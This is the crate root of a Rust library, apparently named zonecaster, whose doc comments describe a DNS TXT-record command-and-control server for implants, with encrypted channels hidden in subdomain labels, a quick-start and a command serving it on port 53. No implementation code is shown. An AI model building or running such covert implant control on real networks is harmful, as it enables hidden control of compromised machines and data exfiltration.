//! zonecaster: a DNS TXT-record command-and-control tunnel controller.
//!
//! zonecaster answers authoritative DNS queries for a configured apex zone
//! and multiplexes an encrypted implant channel over the query/response
//! cycle: a bootstrap RSA-OAEP exchange hands each implant a session AES-GCM
//! key, after which both directions move as pre-chunked, range-retrievable
//! blocks addressed entirely through subdomain labels.
//!
//! ## Quick Start
//!
//! ### As a library
//!
//! ```rust,no_run
//! use zonecaster::config::TunnelConfig;
//! use zonecaster::tunnel::Tunnel;
//! use std::sync::Arc;
//!
//! #[tokio::main]
//! async fn main() -> anyhow::Result<()> {
//!     let config = TunnelConfig::default();
//!     let tunnel = Arc::new(Tunnel::new(config).await?);
//!     zonecaster::listener::serve(tunnel, ":53").await
//! }
//! ```
//!
//! ### As a command-line tool
//!
//! ```bash
//! zonecasterd serve --apex tunnel.example --bind :53
//! ```
//!
//! ## Module map
//!
//! | Module | Role |
//! |---|---|
//! | [`codec`] | label/tag classification, base32/base64 field codecs |
//! | [`crypto`] | RSA-OAEP bootstrap, AES-GCM session AEAD, self-signed cert |
//! | [`send_store`] | pre-chunked, range-retrievable outbound blocks |
//! | [`reassembly`] | sparse-slot inbound fragment reassembly |
//! | [`session`] | live session registry, outbox, correlation-ID waiters |
//! | [`envelope`] | the upper-layer message shape carried once a block completes |
//! | [`router`] | dispatches a classified query to its handler |
//! | [`listener`] | UDP/53 framing, one spawned task per query |
//! | [`tunnel`] | owns all server-side state, wires the sweeps |
//! | [`config`] | TOML-backed runtime configuration |
//! | [`error`] | the tunnel's typed error enum |

pub mod codec;
pub mod config;
pub mod crypto;
pub mod envelope;
pub mod error;
pub mod listener;
pub mod reassembly;
pub mod router;
pub mod send_store;
pub mod session;
pub mod tunnel;
